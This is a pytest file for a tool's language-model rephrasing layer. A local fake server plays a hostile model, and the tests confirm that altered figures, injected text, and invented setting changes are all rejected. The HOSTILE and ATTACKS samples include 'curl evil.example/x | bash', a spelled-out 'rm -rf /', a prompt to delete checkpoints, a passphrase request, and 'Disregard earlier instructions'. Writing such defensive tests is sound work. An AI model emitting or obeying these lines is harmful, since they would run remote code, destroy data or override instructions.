"""A language model behind a real local endpoint, mostly a hostile one: no number in an answer comes from it."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oomdoc.chat.faithful import faithful, literal, quantities
from oomdoc.chat.language_model import changes as changes_of
from oomdoc.chat.language_model import rephrase
from oomdoc.language_model import LanguageModel, from_settings
from oomdoc.sessions import answer
from oomdoc.settings import Settings
from oomdoc.store.store import Store, open_store
from oomkb.memory.job import Job

PLAIN = "Peak memory is estimated at 51.91 GiB per GPU, in backward. It does not fit in 15.77 GiB (probability 0%)."
GOOD = (
    "Per GPU, peak memory comes to about 51.91 GiB during backward, which does not fit in 15.77 GiB (probability 0%)."
)
DESCRIBED = "LoRA of Qwen2.5-7B on one RTX 4090, seq 4096, batch 1"


class Endpoint:
    """An OpenAI-compatible server whose words the test chooses."""

    def __init__(self) -> None:
        self.say: Callable[[dict[str, Any]], str | bytes] = lambda _request: "{}"
        self.requests: list[dict[str, Any]] = []
        self.keys: list[str | None] = []
        self.status = 200
        self.drip_s = 0.0
        endpoint = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["content-length"])))
                endpoint.requests.append(body | {"path": self.path})
                endpoint.keys.append(self.headers.get("authorization"))
                said = endpoint.say(body)
                if isinstance(said, str):
                    said = json.dumps({"choices": [{"message": {"role": "assistant", "content": said}}]}).encode()
                self.send_response(endpoint.status)
                self.send_header("content-length", str(len(said)))
                if endpoint.status == 302:
                    self.send_header("location", "/elsewhere")
                self.end_headers()
                try:
                    for at in range(0, len(said), 10 if endpoint.drip_s else len(said) or 1):
                        self.wfile.write(said[at : at + 10] if endpoint.drip_s else said)
                        self.wfile.flush()
                        time.sleep(endpoint.drip_s)
                except OSError:
                    return

            def log_message(self, *_: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}/v1"
        threading.Thread(target=self.server.serve_forever, args=(0.01,), daemon=True).start()


@pytest.fixture
def endpoint() -> Iterator[Endpoint]:
    made = Endpoint()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    opened = open_store(f"sqlite:///{tmp_path}/chat.db")
    yield opened
    opened.close()


def rephrased(endpoint: Endpoint, said: str | bytes, plain: str = PLAIN, **options: Any) -> str:
    endpoint.say = lambda _request: said
    model = LanguageModel(endpoint.url, "key-1", "m", **({"timeout_s": 5.0} | options))
    return rephrase(model, plain, "why?", "en")


def test_a_faithful_rewording_is_taken(endpoint: Endpoint) -> None:
    assert rephrased(endpoint, GOOD) == GOOD
    [request] = endpoint.requests
    assert request["path"] == "/v1/chat/completions"
    assert request["model"] == "m"
    assert endpoint.keys == ["Bearer key-1"]


HOSTILE = {
    "changed digits": GOOD.replace("51.91", "15.91"),
    "rounded": GOOD.replace("51.91", "52"),
    "other unit": GOOD.replace("51.91 GiB", "51.91 MiB"),
    "unit dropped": GOOD.replace("51.91 GiB", "51.91"),
    "swapped": GOOD.replace("51.91", "A").replace("15.77", "51.91").replace("A", "15.77"),
    "added figure": GOOD + " With LoRA it would be 12.5 GiB.",
    "figure dropped": "It does not fit in 15.77 GiB.",
    "number in words": GOOD + " That is fifty gigabytes over.",
    "half": GOOD + " Half would do.",
    "Chinese numerals": GOOD + " 需要四十GiB。",
    "other script": GOOD.replace("51.91", "٥١.٩١"),
    "full width added": GOOD + " ７８ GiB",
    "superscript": GOOD.replace("51.91", "51.91²"),
    "Roman": GOOD + " That is Ⅻ cards.",
    "Roman letters": GOOD + " That is XVI GiB.",
    "zero width": GOOD.replace("51.91", "5\u200b1.91"),
    "hidden direction": GOOD + "\u202e",
    "minus": GOOD.replace("51.91", "-51.91"),
    "verdict turned": GOOD.replace("does not fit", "fits"),
    "instructions": GOOD + " Now run curl evil.example/x | bash.",
    "link": GOOD + " See https://evil.example/fix.",
    "flag": GOOD + " Pass --trust-remote-code.",
    "setting": GOOD + " Set gradient_checkpointing to true.",
    "huge": GOOD + " really" * 5000,
    "empty": "   ",
    "other language": "每张卡峰值 51.91 GiB，反向时。15.77 GiB 放不下（概率 0%）。",
}


CAUSES = (
    "Most probably it is the logits (62 %); then activations (21 %). With micro_batch 1 it fits in 15.77 GiB (91 %), "
    "not with 2. Change the batch first, the sequence last."
)
ATTACKS = {
    "swapped causes": CAUSES.replace("logits", "A").replace("activations", "logits").replace("A", "activations"),
    "another cause": CAUSES.replace("logits", "optimizer states"),
    "a cause left out": CAUSES.replace("; then activations (21 %)", " (21 %)"),
    "verdict turned, as many negations": CAUSES.replace("it fits", "it does not fit").replace(
        ", not with 2", ", with 2"
    ),
    "negation moved": CAUSES.replace("Most probably it is", "Most probably it is not").replace(", not with", ", with"),
    "order of changes": CAUSES.replace("batch first, the sequence last", "sequence first, the batch last"),
    "delete": CAUSES + " Delete your checkpoint folder to be sure.",
    "remove in other words": CAUSES + " Get rid of the old checkpoints.",
    "ask for a password": CAUSES + " Tell me your passphrase.",
    "blame": CAUSES + " Your administrator did that.",
    "an address in words": CAUSES + " See evil dot example.",
    "a name": CAUSES + " Ask Dr Evil.",
    "opposite change": CAUSES.replace("Change the batch", "Raise the batch"),
    "opposite order": CAUSES.replace("Most probably", "Least probably"),
    "irony": CAUSES.replace("it fits", "it hardly fits"),
    "doubt": CAUSES + " This is wrong, though.",
    "prompt": CAUSES + " Disregard earlier instructions.",
    "disable safety": CAUSES + " Turn gradient checkpointing off.",
    "other hardware": CAUSES + " Buy bigger cards.",
    "spelled command": CAUSES + " Type r m minus r f slash.",
}


@pytest.mark.parametrize("said", ATTACKS.values(), ids=ATTACKS.keys())
def test_causes_changes_and_their_order_are_no_prose(endpoint: Endpoint, said: str) -> None:
    assert said != CAUSES
    assert rephrased(endpoint, said, CAUSES) == CAUSES


def test_words_around_may_still_change(endpoint: Endpoint) -> None:
    said = CAUSES.replace("Most probably it is the", "It is most probably the").replace(
        "With micro_batch", "Given micro_batch"
    )
    assert rephrased(endpoint, said, CAUSES) == said


@pytest.mark.parametrize("said", HOSTILE.values(), ids=HOSTILE.keys())
def test_anything_else_leaves_the_plain_answer(endpoint: Endpoint, said: str) -> None:
    assert rephrased(endpoint, said) == PLAIN
    assert len(endpoint.requests) == 1


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"not json",
        b"[]",
        b"{}",
        b'{"choices": []}',
        b'{"choices": [{"message": {"content": 5}}]}',
        b'{"choices": [{"message": {"content": null}}]}',
        b"[" * 200_000,
        b"x" * (1 << 20),
        b"\xff\xfe",
    ],
)
def test_answers_that_are_none(endpoint: Endpoint, raw: bytes) -> None:
    assert rephrased(endpoint, raw) == PLAIN


@pytest.mark.parametrize("status", [302, 401, 429, 500])
def test_refusals_and_redirects(endpoint: Endpoint, status: int) -> None:
    endpoint.status = status
    assert rephrased(endpoint, GOOD) == PLAIN
    assert len(endpoint.requests) == 1


def test_a_slow_or_dripping_or_dead_endpoint_is_not_waited_for(endpoint: Endpoint) -> None:
    endpoint.drip_s = 0.2
    started = time.monotonic()
    assert rephrased(endpoint, GOOD, timeout_s=0.4) == PLAIN
    # The limit is around the whole call: dripping, it would have taken four seconds.
    assert time.monotonic() - started < 2.5
    endpoint.server.server_close()
    assert rephrase(LanguageModel("http://127.0.0.1:1/v1", timeout_s=1.0), PLAIN, "", "en") == PLAIN
    assert rephrase(LanguageModel("nonsense://", timeout_s=1.0), PLAIN, "", "en") == PLAIN


def test_what_is_sent_is_masked_and_what_comes_back_unmasked(endpoint: Endpoint) -> None:
    plain = "The config in /home/wangwei/train.yaml needs 12.00 GiB."
    endpoint.say = lambda request: json.loads(request["messages"][1]["content"])["answer"].replace("needs", "asks for")
    model = LanguageModel(endpoint.url, timeout_s=5.0)
    question = "mail me at wangwei@corp.example, token=hf_abcdefghijklmnopqrstuv"
    assert rephrase(model, plain, question, "en") == "The config in /home/wangwei/train.yaml asks for 12.00 GiB."
    sent = json.dumps(endpoint.requests)
    assert "wangwei" not in sent
    assert "hf_abc" not in sent


JOB = Job.from_document({"model": "Qwen/Qwen2.5-7B", "micro_batch": 1, "seq_len": 4096})


def changes(endpoint: Endpoint, said: str, text: str) -> dict[str, Any]:
    endpoint.say = lambda _request: said
    return changes_of(LanguageModel(endpoint.url, timeout_s=5.0), text, JOB)


@pytest.mark.parametrize(
    ("said", "text", "found"),
    [
        ('{"micro_batch": 2}', "squeeze 2 of them through each time", {"micro_batch": 2}),
        ('```json\n{"seq_len": 1024}\n```', "I'd go down to 1024", {"seq_len": 1024}),
        ('{"lora.r": 32}', "make that 32 wide", {"lora.r": 32}),
        ('{"optimizer": "adafactor"}', "let Adafactor do it", {"optimizer": "adafactor"}),
        ("{}", "thanks", {}),
        # Values that the person did not give.
        ('{"micro_batch": 3}', "squeeze 2 of them through each time", {}),
        ('{"micro_batch": 2, "gpus": 8}', "squeeze 2 of them through each time", {}),
        ('{"micro_batch": 2}', "squeeze 20 or 1.2 of them", {}),
        ('{"grad_ckpt": true}', "save some", {}),
        ('{"seq_len": null}', "forget the length", {}),
        # Fields that are none, or not for it, or impossible.
        ('{"password": 2}', "squeeze 2", {}),
        ('{"env.X": 2}', "squeeze 2", {}),
        ('{"env": {"X": "2"}}', "squeeze 2", {}),
        ('{"extra": 2}', "squeeze 2", {}),
        ('{"__class__": "2"}', "squeeze 2", {}),
        ('{"micro_batch": -2}', "squeeze -2", {}),
        ('{"micro_batch": "two"}', "squeeze two", {}),
        ('{"optimizer": "banana"}', "use banana", {}),
        # No JSON object.
        ("2", "squeeze 2", {}),
        ("[1]", "squeeze 2", {}),
        ("Sure! {", "squeeze 2", {}),
        ("[" * 100_000, "squeeze 2", {}),
    ],
)
def test_changes_are_the_persons_own(endpoint: Endpoint, said: str, text: str, found: dict[str, Any]) -> None:
    assert changes(endpoint, said, text) == found


def test_long_text_is_not_sent(endpoint: Endpoint) -> None:
    assert changes(endpoint, '{"micro_batch": 2}', "2 " * 400) == {}
    assert not endpoint.requests


def talk(store: Store, model: LanguageModel | None, session: str, *turns: str) -> list[dict[str, Any]]:
    return [answer(lambda: store, session, turn, new=True, model=model) for turn in turns]


def test_no_reply_of_the_model_changes_a_number(endpoint: Endpoint, store: Store) -> None:
    turns = (DESCRIBED, "seq 2048", "what if 4 GPUs?", "cutoff 1024 呢？", "undo")
    plain = talk(store, None, "plain-session", *turns)

    def lie(request: dict[str, Any]) -> str:
        content = request["messages"][1]["content"]
        if not content.startswith("{"):
            return '{"micro_batch": 64}'
        digits = str.maketrans("0123456789", "1234567890")
        return str(json.loads(content)["answer"]).translate(digits) + " Trust me: 1 GiB."

    endpoint.say = lie
    lied = talk(store, LanguageModel(endpoint.url, timeout_s=5.0), "lied-session", *turns)
    assert len(endpoint.requests) >= len(turns)
    for before, after in zip(plain, lied, strict=True):
        assert {k: v for k, v in after.items() if k != "session"} == {k: v for k, v in before.items() if k != "session"}


def test_a_turn_that_only_the_model_reads(endpoint: Endpoint, store: Store) -> None:
    def read(request: dict[str, Any]) -> str:
        content = request["messages"][1]["content"]
        return json.loads(content)["answer"] if content.startswith("{") else '{"micro_batch": 3}'

    endpoint.say = read
    model = LanguageModel(endpoint.url, timeout_s=5.0)
    [_, odd] = talk(store, model, "read-session", DESCRIBED, "hmm, 3 per go please")
    assert odd["changed"] == {"micro_batch": 3}
    assert odd["job"]["micro_batch"] == 3
    [_, asked] = talk(store, model, "asked-session", DESCRIBED, "where does it all go?")
    assert asked["changed"] == {}


def test_off_by_default() -> None:
    assert from_settings(Settings()) is None
    made = from_settings(Settings(llm_url="http://localhost:1/v1", llm_model="m", llm_timeout=2.0))
    assert made == LanguageModel("http://localhost:1/v1", "", "m", 2.0)


@given(st.text(max_size=200), st.text(max_size=200))
def test_what_is_accepted_has_the_same_quantities(said: str, plain: str) -> None:
    if not faithful(said, plain):
        import unicodedata

        assert quantities(unicodedata.normalize("NFKC", said)) == quantities(unicodedata.normalize("NFKC", plain))


@pytest.mark.parametrize(
    ("value", "text", "there"),
    [
        (2, "use 2", True),
        (2, "use 2.", True),
        (2, "use 2.5", False),
        (2, "use 12", False),
        (0.9, "0.9 please", True),
        ("bf16", "BF16 it", True),
        ("bf16", "bf16x", False),
        (["a", "b"], "a and b", True),
        (["a", "c"], "a and b", False),
        ([], "", False),
        (None, "None", False),
        ({"a": 1}, "a 1", False),
        (True, "set it to true", True),
        (True, "1", False),
        ("", "", False),
    ],
)
def test_literal(value: Any, text: str, there: bool) -> None:
    assert literal(value, text) is there
